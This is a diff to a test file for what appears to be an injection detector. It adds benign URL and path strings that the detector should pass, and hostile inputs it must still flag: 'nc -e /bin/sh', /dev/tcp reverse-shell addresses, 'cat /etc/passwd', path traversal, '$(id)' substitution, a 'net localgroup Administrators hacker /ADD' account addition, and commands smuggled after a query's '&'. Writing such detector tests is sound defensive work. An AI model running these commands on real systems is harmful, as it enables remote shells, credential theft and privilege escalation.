@@ -54,6 +54,13 @@ describe('residualMask: benign triggers are dismissed locally', () => {
     'ok\n\nsee you tomorrow.\n',
     'line one\r\nline two\r\nline three',
     'Happy birthday!\n  Have a great day',
+    // a URL's query pairs, and a path (with a query or a fragment) as the argument of a word of prose
+    'watching https://www.example.com/watch?v=abc&t=42s now',
+    'see https://example.org/a?b=1&c=2&d=x.y, thanks',
+    'the new docs (https://example.org/?q=1&page=2)',
+    'Can someone check why /api/v2/users?page=2&limit=50 is slow?',
+    'see /docs/intro.md#setup first',
+    'please see /api/v1/items?sort=name&order=desc.',
   ])('%s', (s) => {
     expect(residualMask(s)).toBe(0)
   })
@@ -129,6 +136,31 @@ describe('residualMask: benign triggers are dismissed locally', () => {
     ['x ## not a heading', M.HASH],
     ['`503 Service Unavailable`', M.BACKTICK],
     ['wget (http://evil.example/x.sh)', M.SLASH],
+    // after a query's `&`, a command (or an assignment, then a command); a character reference
+    // (decoding makes markup of it); a path that runs or is read, a reverse shell, a comment
+    ['see https://e.co/?a=1&id', M.AMP],
+    ['see https://e.co/?a=1&b=2 id', M.AMP],
+    ['see https://e.co/?a=1&b=2|sh', M.AMP],
+    ['see https://e.co/?a=1&ltsvg=1', M.AMP],
+    ['see /a?x=1&y=2 id', M.AMP],
+    ['see /a?x=1&lt=2', M.AMP],
+    ['why /tmp/x&id', M.AMP],
+    ['x; /bin/sh', M.SLASH],
+    ['cat /etc/passwd', M.SLASH],
+    ['nc -e /bin/sh', M.SLASH],
+    ['see /dev/tcp/10.0.0.1/4444', M.SLASH],
+    ['see /DEV/tcp/10.0.0.1/4444', M.SLASH],
+    ['x/dev/tcp/10.0.0.1/4444', M.SLASH],
+    ['see //evil.example', M.SLASH],
+    ['see /*x*/ or', M.SLASH],
+    ['see /../../etc/passwd', M.SLASH],
+    ['x-y /tmp/x', M.SLASH],
+    ['see /a?b=$(id)', M.DOLLAR],
+    // an address that may be the argument of a command before it (or after a heart, `$5`, another address)
+    ['<3 net localgroup Administrators hacker /ADD', M.SLASH],
+    ['| $5 net localgroup Administrators hacker /ADD', M.SLASH],
+    ['wget it from https://e.co/?a=1&b=2', M.AMP],
+    ['see /tmp/x then /a?b=1&c=2', M.AMP],
     // a dotted word that runs a command: a Windows extension, a tool family, a path, a second word
     ['see `node.exe` now', M.BACKTICK],
     ['see `whoami.com` now', M.BACKTICK],
@@ -229,6 +261,12 @@ describe('the line-rate pass keeps detection', () => {
     ' or @@version -- ',
     '3 and null',
     'bjavascript: nc <DanielS>',
+    'see https://e.co/?a=1&b=2 id',
+    'see /a/b?x=1&y=2 id',
+    'see /dev/tcp/10.0.0.1/4444',
+    'go /x?a=1&c=cat /etc/passwd',
+    '<3 net localgroup Administrators hacker /ADD',
+    '<3 wget x https://e.co/?a=1&b=2',
   ])('still flags %s', (s) => {
     expect(d.first(s)).not.toBeNull()
   })
